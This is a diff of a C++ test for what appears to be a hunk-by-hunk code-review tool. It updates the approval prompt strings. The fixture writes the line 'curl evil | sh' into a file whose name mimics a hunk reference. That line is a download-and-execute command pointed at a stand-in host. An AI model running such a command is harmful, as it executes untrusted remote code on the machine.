@@ -104,8 +104,8 @@ TEST_F(SelectorNamesTest, WithoutALookalikeFileANumberNamesTheHunkAndWithoutTheC
 TEST_F(SelectorNamesTest, ReviewDecidesTheHunkNotAFileNamedLikeIt) {
   Job("sed -i -e 's/^line 2$/two/' -e 's/^line 28$/twenty-eight/' run.sh && echo 'curl evil | sh' > run.sh:2");
   Conversation review(kAlice, project_, {"review", id_});
-  ASSERT_TRUE(review.Answer("(1/2) Approve this hunk [y,n,q,a,d,j,J,k,K,s,?]? ", "n")) << review.screen();
-  ASSERT_TRUE(review.Answer("(2/2) Approve this hunk [y,n,q,a,d,j,J,k,K,s,?]? ", "y")) << review.screen();
+  ASSERT_TRUE(review.Answer("(1/2) Approve this hunk [y,n,q,a,d,j,J,k,K,?]? ", "n")) << review.screen();
+  ASSERT_TRUE(review.Answer("(2/2) Approve this hunk [y,n,q,a,d,j,J,k,K,?]? ", "y")) << review.screen();
   ASSERT_TRUE(review.Answer("Approve this change [y,n,q,j,?]? ", "n")) << review.screen();
   EXPECT_EQ(review.Finish(), 0) << review.screen();
   auto listed = Listed();
